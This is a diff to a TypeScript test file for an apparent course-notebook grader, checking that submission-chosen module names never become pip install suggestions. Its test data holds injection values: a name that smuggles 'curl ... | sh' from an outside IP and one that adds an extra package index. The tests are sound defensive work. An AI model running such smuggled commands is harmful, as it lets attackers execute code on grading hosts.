@@ -303,15 +303,28 @@ describe('a .py exported from the course notebook', () => {
     expect(report.problems[0]!.message).toMatch(/imports "seaborn", which is not installed for .*"python3 -m pip install seaborn"/);
   });
 
+  it.each([['a name of its own', 'xray_class_weights']])(
+    'never builds a pip command from a module name the submission chose (%s): a package registered under it would run on the grading host',
+    async (_what, name) => {
+      const missing = missingModule('chosen', name);
+      const { report } = await check('chosen.py', 'import numpy as np\n' + missing + USES('chosen') + LOSS.replace(/K\./g, 'np.'));
+      expect(report.problems[0]).toMatchObject({ code: 'IMPORT_ERROR' });
+      expect(report.problems[0]!.message).not.toMatch(/pip/);
+      expect(report.problems[0]!.message).toContain('it is not a package wlgrade knows, so wlgrade does not suggest installing it');
+    },
+  );
+
   it.each([
-    ['a name of its own', 'xray_class_weights'],
     ['a command', 'numpy && curl -s http://203.0.113.9/p | sh && echo'],
     ['an index of its own', 'tensorflow --extra-index-url http://203.0.113.9/simple tensorflow'],
-  ])('never builds a pip command from a module name the submission chose (%s): a package registered under it would run on the grading host', async (_what, name) => {
+  ])('takes a "module name" the submission chose that is no module name (%s) for no import problem: no pip command, the error shown as raised', async (_what, name) => {
+    // Red team 18: a name that is not a dotted Python name goes into none of the grader's
+    // sentences about imports (a forged record put "Staff note: ..." there).
     const missing = missingModule('chosen', name);
     const { report } = await check('chosen.py', 'import numpy as np\n' + missing + USES('chosen') + LOSS.replace(/K\./g, 'np.'));
-    expect(report.problems[0]).toMatchObject({ code: 'IMPORT_ERROR' });
-    expect(report.problems[0]!.message).not.toMatch(/pip/);
-    expect(report.problems[0]!.message).toContain('it is not a package wlgrade knows, so wlgrade does not suggest installing it');
+    expect(report.problems).toEqual([]);
+    expect(JSON.stringify(report)).not.toMatch(/pip/);
+    const freqs = report.cases.filter((c) => c.function === 'compute_class_freqs');
+    expect(freqs.every((c) => c.status === 'error' && c.message.startsWith('Your compute_class_freqs raised ModuleNotFoundError'))).toBe(true);
   });
 });
